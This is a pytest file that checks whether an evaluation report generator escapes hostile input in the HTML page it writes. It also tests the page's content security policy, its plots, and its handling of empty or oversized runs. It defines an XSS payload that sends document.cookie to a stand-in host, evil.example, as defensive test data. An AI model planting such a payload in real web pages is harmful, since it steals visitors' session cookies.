"""Whatever cases, agents and models say, the page shows it as words, and asks nobody for anything."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from defusedxml.ElementTree import fromstring

from swarm.evaluation.making import make
from swarm.evaluation.report import PAGE, REPORT, read, report_of
from swarm.evaluation.results import TRIES, Folder, Judged, Split, Standing, Try
from tests.swarm.evaluation.conftest import case, plan_of

HOSTILE = '"><script>fetch("http://evil.example/"+document.cookie)</script><img src=x onerror=alert(1)>'
VOID = {"meta", "br", "img", "link", "input"}


class Page(HTMLParser):
    """Tags, their attributes, and the text of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data


def hostile_run(path: Path, tier: str = "small") -> Folder:
    """A run in which everything that others choose is hostile."""
    folder = Folder(path)
    one = case(HOSTILE[:200])
    plan = plan_of([one], "agent", "nothing").model_copy(update={"set": HOSTILE, "origin": HOSTILE, "licence": HOSTILE})
    folder.path.mkdir(exist_ok=True)
    folder.begin(plan)
    folder.add(Standing(case=one.id, digest=one.digest))
    for planned in plan.tries():
        at = folder.path / TRIES / planned.folder
        at.mkdir(parents=True)
        for name in ("change.diff", "judge.txt"):
            (at / name).write_text(f"</pre>{HOSTILE}\n\x1b[31m\u202e\udcff".encode("utf-8", "replace").decode())
        folder.add(
            Try(
                case=one.id, strategy=planned.way.strategy, tier=planned.way.tier, number=1, key=planned.key,
                outcome="unsolved", ending=HOSTILE, reason=HOSTILE, said=HOSTILE, model=HOSTILE, files=(HOSTILE,),
                judged=Judged(solved=False, reason=HOSTILE, put_back=(HOSTILE,), tail=HOSTILE),
                split=Split(decode=1.5), tokens=70, prompt=60, completion=10, folder=planned.folder,
            )
        )  # fmt: skip
    return folder


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Folder:
    """A hostile run with its report, to be looked at and left as it is."""
    folder = hostile_run(tmp_path_factory.mktemp("page") / "run")
    make(folder)
    return folder


def test_nothing_hostile_becomes_markup(folder: Folder) -> None:
    text = (folder.path / PAGE).read_text()
    page = Page(text)
    assert "script" not in page.tags
    assert "img" not in page.tags
    assert not [name for name, _ in page.attributes if name.startswith("on")]
    assert page.text.count('<script>fetch("http://evil.example/"') >= 8


def test_the_page_asks_the_network_for_nothing_and_forbids_it(folder: Folder) -> None:
    page = Page((folder.path / PAGE).read_text())
    policy = [value for name, value in page.attributes if name == "content" and value and "default-src" in value]
    assert policy == ["default-src 'none'; style-src 'unsafe-inline'"]
    asking = [
        (name, value) for name, value in page.attributes if name in {"src", "href", "xlink:href", "action", "data"}
    ]
    assert asking
    assert all((value or "").startswith(("#", "tries/")) for _, value in asking), asking
    assert not {"link", "iframe", "object", "embed", "form", "base"} & set(page.tags)
    assert "url(" not in re.sub(r"url\(#", "", (folder.path / PAGE).read_text())


def test_each_plot_is_sound_and_takes_its_colour_from_the_page(folder: Folder) -> None:
    text = (folder.path / PAGE).read_text()
    drawn = re.findall(r"<svg.*?</svg>", text, re.DOTALL)
    assert len(drawn) == 4
    for svg in drawn:
        assert fromstring(svg) is not None
        assert "currentColor" in svg
        assert "#010203" not in svg
    assert "light-dark(" in text


def test_a_run_without_a_single_try_has_a_report_that_says_so(tmp_path: Path) -> None:
    folder = Folder(tmp_path)
    folder.begin(plan_of([case("a"), case("b")], "agent"))
    report = make(folder)
    assert (report.planned, report.made, report.whole) == (2, 0, False)
    assert "2 of 2 tries were not made" in (folder.path / PAGE).read_text()


def test_a_report_is_read_back_as_it_was_written(folder: Folder) -> None:
    assert read(folder.path) == report_of(folder)
    assert (folder.path / REPORT).read_bytes().isascii()


@pytest.mark.slow
def test_a_large_change_is_cut_in_the_page_and_kept_in_its_file(tmp_path: Path) -> None:
    folder = hostile_run(tmp_path / "run")
    for path in (folder.path / TRIES).glob("*/change.diff"):
        path.write_text("x" * 500_000)
    make(folder)
    text = (folder.path / PAGE).read_text()
    assert len(text) < 200_000
    assert "[the rest is in change.diff]" in text


@pytest.mark.slow
@pytest.mark.parametrize("missing", ["change.diff", "judge.txt"])
def test_a_file_that_is_gone_leaves_a_gap_and_no_error(tmp_path: Path, missing: str) -> None:
    folder = hostile_run(tmp_path / "run")
    for path in (folder.path / TRIES).glob(f"*/{missing}"):
        path.unlink()
    make(folder)
    assert (folder.path / PAGE).exists()


def test_one_case_is_told_as_one(tmp_path: Path) -> None:
    for count, words in ((1, "1 case counted nowhere, as broken"), (2, "2 cases counted nowhere, as broken")):
        folder = Folder(tmp_path / str(count))
        cases = [case(f"c{number}") for number in range(count)]
        folder.path.mkdir()
        folder.begin(plan_of(cases, "nothing"))
        for one in cases:
            folder.add(Standing(case=one.id, digest=one.digest, broken="it tells nothing"))
        assert report_of(folder).notes[0].startswith(words)
